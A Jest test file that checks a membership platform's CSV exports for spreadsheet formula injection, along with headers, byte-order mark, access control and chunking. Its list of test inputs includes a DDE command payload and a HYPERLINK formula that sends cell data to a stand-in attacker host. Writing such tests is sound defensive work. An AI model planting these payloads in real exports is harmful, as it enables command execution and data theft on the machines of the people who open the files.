import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { Community, Organisation, Region, Sector } from '#people';
import { Operations, seal } from '#platform';
import { inert } from '#records';
import { Registration, RegistrationList } from '#registrations';
import { Visitor } from '../client.js';
import { House } from '../house.js';

/** Promise A7, the half about exports: what somebody typed is text in every spreadsheet, never a formula. */
const NASTY = [
  '=cmd|\'/C calc\'!A0', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', ' =1', '  +1', ' -1', '　＝1', '＝1', '＋1', '－1', '＠SUM', '​=1', '﻿=1', '=HYPERLINK("http://evil.example.org?x="&A1,"click")',
  'comma, quote " and\nline', 'a;b', '"quoted"', '\'=1', 'crlf\r\n=1',
];
/** What a spreadsheet would take for a formula, said once more and in other words than the code's. */
const runs = (cell: string) => /^[=+\-@＝＋－＠\t\r]/.test(cell) || /^[=+\-@＝＋－＠]/.test(cell.replace(/^[\s\u200b\ufeff\u2060]+/, ''));

let house: House;
let admin: Visitor;
/** Where each export is found, and what of the texts it must bring back. A new one that is not here fails the first test. */
let paths: Record<string, { path: string; names: boolean }>;
beforeAll(async () => {
  house = await House.open('2026-06-01T18:00:00Z', { worker: true });
  const { db, make } = house;
  const [sector] = await db.repo(Sector).save(NASTY.map((name, n) => db.repo(Sector).create({ name, position: n + 1 })));
  const { id: regionId } = await db.repo(Region).save(db.repo(Region).create({ name: '=region', position: 1 }));
  const { id: communityId } = await db.repo(Community).save(db.repo(Community).create({ name: '+community', regionId, timeZone: 'America/Vancouver' }));
  const list = await db.repo(RegistrationList).save(db.repo(RegistrationList).create({ name: '=list, "1"', createdAt: house.clock.now() }));
  for (const [n, name] of NASTY.entries()) {
    const organisation = await db.repo(Organisation).save(db.repo(Organisation).create({ name, communityId, sectorId: sector!.id }));
    const lines = [name, '=2'];
    const member = await make.member(name, { email: `=m${n}@example.org`, otherEmails: [`+o${n}@example.org`], phone: '+1 250 555 0134', organisationId: organisation.id, communityId, sectorId: sector!.id, languages: ['@x'], postalAddress: { lines } as never });
    await db.repo(Registration).insert({ listId: list.id, memberId: member.id, name, regionId });
  }
  await make.admin();
  admin = await new Visitor(house).signIn('robin@example.org');
  const columns = ['=first', '+second'].map((name, index) => ({ index, name, samples: [], field: null }));
  const [upload] = await db.query<{ id: string }>(`insert into import (file_name, uploaded_at, state, columns, header) values ('=1.csv', now(), 'CHECKED', $1, '') returning id`, [JSON.stringify(columns)]);
  for (const [n, text] of NASTY.entries()) await db.query(`insert into import_row (import_id, line, fate, cells, says) values ($1, $2, 'REFUSED', $3, '{=why}')`, [upload!.id, n + 2, [text, '']]);
  const [run] = await db.query<{ id: string }>(`insert into postcard_run (once_key, title, heading, body, lang, ordered_at, newest, state, locked_at) values ('x', 'x', 'x', 'x', 'en', now(), 'x', 'LOCKED', now()) returning id`);
  const sealed = seal(house.config.secretKey, { url: 'https://example.org', code: '=1' });
  for (const [n, name] of NASTY.entries()) await db.query(`insert into postcard (run_id, member_id, state, sealed, code_key, link_key, ref, name, address_lines) select $1, id, 'LOCKED', $2, 'x', 'x', $3, $4, $5 from member where name = $4 limit 1`, [run!.id, sealed, `r${n}`, name, [name, '+2']]);
  const words = (text: string) => [{ lang: 'en', text }];
  const bare = { options: [], highest: null, low: [], high: [] };
  const questions = [{ key: 'a', kind: 'CHOICE', label: words('=which'), ...bare, options: NASTY.map((text, n) => ({ key: `o${n}`, label: words(text) })) }, { key: 'b', kind: 'LONG_TEXT', label: words('+more'), ...bare }];
  const [evaluation] = await db.query<{ id: string }>(`insert into evaluation (title, languages, intro, questions, public_key, created_at) values ('=1', '{en}', '[]', $1, 'x', now()) returning id`, [JSON.stringify(questions)]);
  for (const [n, text] of NASTY.entries()) {
    await db.query(`insert into ballot (evaluation_id, answers) values ($1, $2)`, [evaluation!.id, JSON.stringify({ a: `o${n}` })]);
    await db.query(`insert into saying (evaluation_id, question_key, text) values ($1, 'b', $2)`, [evaluation!.id, text]);
  }
  paths = {
    '/exports/evaluations/:id/answers.csv': { path: `/exports/evaluations/${evaluation!.id}/answers.csv`, names: false },
    '/exports/evaluations/:id/codebook.csv': { path: `/exports/evaluations/${evaluation!.id}/codebook.csv`, names: true },
    '/exports/evaluations/:id/texts.csv': { path: `/exports/evaluations/${evaluation!.id}/texts.csv`, names: true },
    '/exports/members.csv': { path: '/exports/members.csv', names: true },
    '/exports/organisations.csv': { path: '/exports/organisations.csv', names: true },
    '/exports/lists/:id.csv': { path: `/exports/lists/${list.id}.csv`, names: true },
    '/exports/lists/:id/participation.csv': { path: `/exports/lists/${list.id}/participation.csv`, names: false },
    '/exports/postcards/:id.csv': { path: `/exports/postcards/${run!.id}.csv`, names: true },
    '/imports/:id/refused.csv': { path: `/imports/${upload!.id}/refused.csv`, names: true },
  };
});
afterAll(() => house.close());

describe('A7: exports are inert', () => {
  it('this test knows every one there is', () => {
    const doors = house.get(Operations).list().flatMap(({ kind, name }) => (kind === 'HTTP' && name.endsWith('.csv') ? [name.slice(4)] : []));
    expect(doors.toSorted()).toEqual(Object.keys(paths).toSorted());
  });

  for (const name of ['/exports/evaluations/:id/answers.csv', '/exports/evaluations/:id/codebook.csv', '/exports/evaluations/:id/texts.csv', '/exports/members.csv', '/exports/organisations.csv', '/exports/lists/:id.csv', '/exports/lists/:id/participation.csv', '/exports/postcards/:id.csv', '/imports/:id/refused.csv']) {
    it(`${name}: no cell runs, every text comes back whole, Excel reads its accents, nobody keeps a copy`, async () => {
      const answer = await admin.fetch(paths[name]!.path);
      const bytes = Buffer.from(await answer.arrayBuffer());
      expect([answer.status, answer.headers.get('cache-control'), answer.headers.get('content-disposition')?.split(';')[0], answer.headers.get('content-type')]).toEqual([200, 'no-store', 'attachment', 'text/csv; charset=utf-8']);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const cells = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
      expect(cells.flat().filter(runs)).toEqual([]);
      if (!paths[name]!.names) return;
      const shown = new Set(cells.flat());
      expect(NASTY.filter((text) => !shown.has(text) && !shown.has(`'${text}`))).toEqual([]);
    });
  }

  it('members.csv: one row a member, in words, and only for admins', async () => {
    const [header, ...rows] = parse(await admin.page('/exports/members.csv'), { bom: true }) as string[][];
    const robin = rows.find(([name]) => name === 'Robin')!;
    expect(rows).toHaveLength(NASTY.length + 1);
    expect(Object.fromEntries(header!.map((column, n) => [column, robin[n]]))).toMatchObject({ Email: 'robin@example.org', 'Also a parent': '', 'May be reached by': 'email', 'Left on': '' });
    const quoted = rows.find(([name]) => name === 'comma, quote " and\nline')!;
    expect(Object.fromEntries(header!.map((column, n) => [column, quoted[n]]))).toMatchObject({ 'Postal address': 'comma, quote " and\nline\n=2', Region: "'=region", Phone: "'+1 250 555 0134" });
    await house.make.member('Bo');
    const bo = await new Visitor(house).signIn('bo@example.org');
    for (const path of ['/exports/members.csv', '/exports/organisations.csv']) expect([(await bo.fetch(path)).status, (await new Visitor(house).fetch(path)).status]).toEqual([403, 401]);
  });

  it('leaves plain text as it is', () => {
    for (const text of ['Ana Duarte', 'Nak’azdli Whut’en', '250-555-0134', 'a=b', '1-2', '', ' leading', 'é']) expect(inert(text)).toBe(text);
  });

  it('a list of any length comes in chunks, each member once', async () => {
    await house.db.query(`insert into member (name) select 'Member ' || g % 700 from generate_series(1, 5000) g`);
    const rows = parse(await admin.page('/exports/members.csv'), { bom: true, from_line: 2 }) as string[][];
    expect(rows.filter(([name]) => name!.startsWith('Member '))).toHaveLength(5000);
  });
});
